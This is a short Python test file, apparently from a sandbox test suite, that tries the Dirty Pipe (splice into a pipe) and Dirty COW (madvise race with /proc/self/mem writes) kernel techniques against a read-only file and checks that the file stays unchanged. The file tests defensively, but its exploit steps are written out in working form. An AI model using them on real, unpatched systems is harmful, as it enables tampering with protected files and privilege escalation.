# SPDX-License-Identifier: MIT
"""Dirty COW and dirty pipe: pages of read-only files changed by a race or by a pipe.
A kernel with these holes would let a run change the image; the file must stay."""
# limits: timeout=15
# expect: status success
# expect: stdout ~ ^held file
import ctypes
import mmap
import threading
import time

path = os.path.dirname(os.__file__) + "/this.py"
before = read(path)
r, w = os.pipe()
size = 65536
os.write(w, b"x" * size)
os.read(r, size)
fd = os.open(path, os.O_RDONLY)
offset = ctypes.c_int64(0)
syscall(275, fd, ctypes.byref(offset), w, 0, 1, 0)
os.write(w, b"CUV")
check("pipe", read(path) == before)
m = mmap.mmap(fd, len(before), flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
low = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if line.rstrip().endswith("/this.py"))
until = time.monotonic() + 0.7


def advise():
    while time.monotonic() < until:
        syscall(28, low, 4096, 4)


threading.Thread(target=advise).start()
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    while time.monotonic() < until:
        memory.seek(low)
        memory.write(b"CUV")
check("file", read(path) == before)
